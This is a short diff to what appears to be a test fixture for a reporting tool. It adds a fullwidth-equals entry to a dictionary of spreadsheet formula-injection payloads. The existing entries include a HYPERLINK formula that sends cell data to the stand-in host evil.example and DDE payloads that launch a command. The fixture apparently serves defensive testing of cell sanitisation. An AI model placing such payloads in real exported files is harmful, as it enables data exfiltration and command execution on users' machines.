@@ -16,6 +16,7 @@ from sesreport.period import Period
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "wide": "＝1+1",
     "plus": "+cmd|' /C calc'!A0",
     "at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "minus": "-2+3+cmd|' /C calc'!A0",
